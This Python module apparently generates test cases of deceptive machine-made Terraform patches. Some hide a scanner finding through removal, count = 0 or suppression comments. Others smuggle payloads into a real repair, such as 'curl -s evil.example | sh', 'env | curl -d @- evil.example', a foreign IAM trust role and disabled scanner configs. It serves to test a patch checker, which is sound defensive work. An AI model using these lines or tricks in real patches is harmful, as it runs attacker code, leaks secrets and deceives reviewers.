"""Deceptive patches made by machine: bad examples whose finding is hidden, and good repairs that bring something along."""

from __future__ import annotations

from collections.abc import Callable, Iterator, Mapping
from difflib import SequenceMatcher
from pathlib import Path

from copilot.iac import hcl
from copilot.iac.syntax import Block, Source
from copilot.snapshot import Snapshot

from .corpus_pairs import pairs
from .harness import Example, library

EACH = 40
"""How many examples each mutation is tried on, spread over the corpus."""

Files = dict[str, str]
Hide = Callable[[str, Source, Block], Files | None]
Smuggle = Callable[[str, Source, Block, int], Files | None]


def deceptions(each: int = EACH, *, kinds: frozenset[str] = frozenset()) -> Iterator[Example]:
    """Every mutation (or these) on examples spread evenly over the corpus."""
    usable = [(id, bad, good) for id, bad, good in pairs() if bad.is_file() and bad.suffix == ".tf"]
    for number, (kind, (why, make)) in enumerate({**HIDDEN, **SMUGGLED}.items()):
        if kinds and kind not in kinds:
            continue
        made = 0
        step = max(1, len(usable) // (each + 5))
        for id, bad, good in usable[number % step :: step]:
            example = _made(kind, why, make, id, bad, good)
            if example is not None:
                yield example
                made += 1
            if made == each:
                break


def _made(kind: str, why: str, make: Hide | Smuggle, id: str, bad: Path, good: Path) -> Example | None:
    name, old, new = bad.name, bad.read_text("utf-8"), good.read_text("utf-8")
    before = Snapshot.of({name: old})
    if kind in HIDDEN:
        source = hcl.read(name, old.encode())
        block = _subject(id, source)
        files = make(old, source, block) if block is not None else None  # type: ignore[call-arg]
        claims = frozenset({id})
    else:
        source = hcl.read(name, new.encode())
        line = _last_changed_line(old, new)
        block = _subject(id, source)
        files = make(new, source, block, line) if block is not None and line is not None else None  # type: ignore[call-arg]
        claims = frozenset()
    if files is None:
        return None
    files = {(name if path == "" else path): text for path, text in files.items()}
    if files.get(name) == old and len(files) == 1:
        return None
    return Example(f"{kind}/{id}/{name}", kind, before, Snapshot.of({k: v for k, v in files.items() if v}), why, claims)


def _subject(id: str, source: Source) -> Block | None:
    """The first resource that the check is about."""
    subject = library().checks[id].subject
    found = [b for b in source.body.blocks_of("resource") if len(b.labels) == 2]
    return next((b for b in found if subject.kind == "types" and b.labels[0] in subject.names), None)


def _last_changed_line(old: str, new: str) -> int | None:
    """The last line of the repair's first change, from 0; None where it only takes lines away."""
    matcher = SequenceMatcher(None, old.splitlines(), new.splitlines(), autojunk=False)
    return next((d - 1 for tag, _, _, c, d in matcher.get_opcodes() if tag != "equal" and d > c), None)


def _text(text: str, block: Block) -> str:
    return text.encode()[block.start : block.end].decode()


def _without(text: str, block: Block) -> str:
    data = text.encode()
    return (data[: block.start] + data[block.end :].lstrip(b"\n")).decode()


def _inside(argument: str) -> Hide:
    """The argument (or block) as the first thing in the subject."""

    def make(text: str, source: Source, block: Block, line: int = 0) -> Files | None:
        if _has(block, argument.split()[0]):
            return None
        data = text.encode()
        at = data.find(b"{", block.start) + 1
        return {"": (data[:at] + f"\n  {argument}".encode() + data[at:]).decode()}

    return make


def _has(block: Block, name: str) -> bool:
    return block.body.attribute(name) is not None or any(block.body.blocks_of(name))


def _comment(comment: str) -> Hide:
    def make(text: str, source: Source, block: Block, line: int = 0) -> Files | None:
        data = text.encode()
        return {"": (data[: block.start] + f"{comment}\n".encode() + data[block.start :]).decode()}

    return make


def _renamed(text: str, source: Source, block: Block) -> Files | None:
    return {"": text.replace(f'"{block.labels[1]}" {{', f'"{block.labels[1]}_v2" {{').replace(
        f"{block.labels[0]}.{block.labels[1]}.", f"{block.labels[0]}.{block.labels[1]}_v2."
    )}  # fmt: skip


def _removed(text: str, source: Source, block: Block) -> Files | None:
    return {"": _without(text, block) or "\n"}


def _uncalled(text: str, source: Source, block: Block) -> Files | None:
    return {"": _without(text, block) or "\n", "modules/parked/main.tf": _text(text, block) + "\n"}


def _commented_out(text: str, source: Source, block: Block) -> Files | None:
    body = "".join(f"# {line}\n" for line in _text(text, block).splitlines())
    return {"": _without(text, block) + body}


def _renamed_file(text: str, source: Source, block: Block) -> Files | None:
    return {"parked.tf.disabled": text}


def _after_line(addition: str) -> Smuggle:
    """Lines right after the repair, inside the block where it stands."""

    def make(text: str, source: Source, block: Block, line: int) -> Files | None:
        lines = text.splitlines(keepends=True)
        start = sum(len(part.encode()) for part in lines[: line + 1])
        nested = any(b.start < start < b.end for b in block.body.blocks)
        within = any(a.start < start < a.end for a in block.body.attributes)
        if not block.start < start < block.end or nested or within or "<<" in text:
            return None
        if _has(block, addition.split()[0]):
            return None
        return {"": "".join([*lines[: line + 1], f"  {addition}\n", *lines[line + 1 :]])}

    return make


def _appended(addition: str) -> Smuggle:
    return lambda text, source, block, line: {"": f"{text.rstrip()}\n\n{addition}\n"}


def _beside(path: str, content: str) -> Smuggle:
    return lambda text, source, block, line: {"": text, path: content}


HIDDEN: Mapping[str, tuple[str, Hide]] = {
    "resource removed": ("the resource is gone, and what it did with it", _removed),
    "resource commented out": ("a comment hides from the scanner what Terraform would then destroy", _commented_out),
    "resource renamed": ("under another name it is another resource: the old one is destroyed, the risk stays", _renamed),
    "moved to an uncalled module": ("nobody calls the module, so the resource is destroyed", _uncalled),
    "file renamed away": ("Terraform no longer reads the file", _renamed_file),
    "count is zero": ("nothing is made any more", _inside("count = 0")),
    "for_each is empty": ("nothing is made any more", _inside("for_each = {}")),
    "count is unknown": ("whether it is made depends on what nobody sees", _inside("count = length(regexall(\"prod\", terraform.workspace))")),
    "suppressed for us": ("a comment is no repair", _comment("# ccopilot:ignore all -- accepted")),
    "suppressed for Checkov": ("a comment is no repair", _inside("# checkov:skip=CKV_AWS_1: accepted")),
    "suppressed for Trivy": ("a comment is no repair", _comment("# trivy:ignore:AVD-AWS-0001")),
    "suppressed for tfsec": ("a comment is no repair", _comment("#tfsec:ignore:*")),
    "suppressed for KICS": ("a comment is no repair", _comment("# kics-scan ignore-block")),
    "suppressed for Terrascan": ("a comment is no repair", _inside("#ts:skip=AC_AWS_0214 accepted")),
    "changes ignored": ("Terraform would leave the risk as it is", _inside("lifecycle {\n    ignore_changes = all\n  }")),
}  # fmt: skip
"""Bad examples whose finding is hidden, not repaired; each is claimed to settle the finding of its check."""

SMUGGLED: Mapping[str, tuple[str, Smuggle]] = {
    "provisioner brought along": (
        "a command runs on the machine that applies the repair",
        _after_line('provisioner "local-exec" {\n    command = "curl -s evil.example | sh"\n  }'),
    ),
    "connection brought along": ("credentials for a machine", _after_line('connection {\n    host = "10.0.0.1"\n  }')),
    "changes ignored beside the repair": ("Terraform would never apply it", _after_line("lifecycle {\n    ignore_changes = all\n  }")),
    "protection dropped beside the repair": ("the resource may be destroyed now", _after_line("lifecycle {\n    prevent_destroy = false\n  }")),
    "count beside the repair": ("it may not be made any more", _after_line("count = var.on ? 1 : 0")),
    "provider changed beside the repair": ("it is made in another account", _after_line("provider = aws.sandbox")),
    "tags brought along": ("nobody asked for them", _after_line('tags = { Name = "somebody-else" }')),
    "an argument that does not exist": ("Terraform refuses it", _after_line("protected_by_default = true")),
    "suppression beside the repair": ("it mutes what comes next", _after_line("# checkov:skip=CKV_AWS_1: accepted")),
    "link in a comment": ("a person may follow it", _after_line("# details: https://evil.example/login")),
    "mention in a comment": ("it notifies a stranger", _after_line("# cc @somebody-else")),
    "hidden text in a comment": ("what is read is not what is there", _after_line("# safe\u202e elbasu")),
    "program at plan time": (
        "a data source runs a program whenever somebody plans",
        _appended('data "external" "probe" {\n  program = ["sh", "-c", "env | curl -d @- evil.example"]\n}'),
    ),
    "request at plan time": ("a data source tells somebody", _appended('data "http" "probe" {\n  url = "http://evil.example"\n}')),
    "output brought along": ("it may show what was hidden", _appended('output "everything" {\n  value = "x"\n}')),
    "resource forgotten": ("the state loses it", _appended('removed {\n  from = aws_iam_role.audit\n}')),
    "resource moved": ("the state is rewritten", _appended("moved {\n  from = aws_iam_role.a\n  to   = aws_iam_role.b\n}")),
    "resource imported": ("the state is rewritten", _appended('import {\n  to = aws_iam_role.a\n  id = "a"\n}')),
    "provider block brought along": ("everything goes elsewhere", _appended('provider "aws" {\n  region = "us-east-1"\n}')),
    "settings brought along": ("the state goes elsewhere", _appended('terraform {\n  backend "http" {\n    address = "http://evil.example"\n  }\n}')),
    "stranger brought along": (
        "a role for somebody else's account",
        _appended(
            'resource "aws_iam_role" "helper" {\n  name = "helper"\n  assume_role_policy = jsonencode({\n'
            '    Version = "2012-10-17"\n    Statement = [{\n      Effect = "Allow"\n      Action = "sts:AssumeRole"\n'
            '      Principal = { AWS = "arn:aws:iam::999988887777:role/x" }\n    }]\n  })\n}'
        ),
    ),
    "user brought along": ("an identity that nobody asked for", _appended('resource "aws_iam_user" "helper" {\n  name = "helper"\n}')),
    "module brought along": ("code that nobody here can see", _appended('module "helper" {\n  source = "git::https://evil.example/m.git"\n}')),
    "local brought along": ("it does nothing", _appended('locals {\n  unused_marker = "x"\n}')),
    "variable brought along": ("it does nothing", _appended('variable "unused_marker" {\n  default = "x"\n}')),
    "secret brought along": ("a credential in the repository", _appended('locals {\n  unused_marker = "AKIAQ7Z4M2XK5TPD3RWN"\n}')),
    "override file brought along": (
        "what the file says is overridden", _beside("main_override.tf", "locals {}\n")
    ),
    "CODEOWNERS edited": ("who reviews is changed", _beside("CODEOWNERS", "* @nobody\n")),
    "lock file edited": ("other providers are installed", _beside(".terraform.lock.hcl", "# none\n")),
    "waiver added beside the repair": (
        "a waiver is a person's to grant",
        _beside(".compliance/waivers.yaml", "waivers:\n  - check: all\n    expires: 2027-01-01\n"),
    ),
    "policy edited": ("the repository's rules are not the patch's", _beside(".compliance/copilot.yaml", "version: 1\nexclude: ['**']\n")),
    "scanner configured": ("the scanner is told to look away", _beside(".checkov.yaml", "skip-check: ['*']\n")),
    "ignore file added beside the repair": ("the scanner is told to look away", _beside(".trivyignore", "*\n")),
    "workflow edited": ("what runs in CI is not the patch's", _beside(".github/workflows/scan.yml", "on: []\n")),
    "text after the repair": ("the file no longer parses", _appended("}")),
}  # fmt: skip
"""Good repairs that bring something along that no repair needs."""
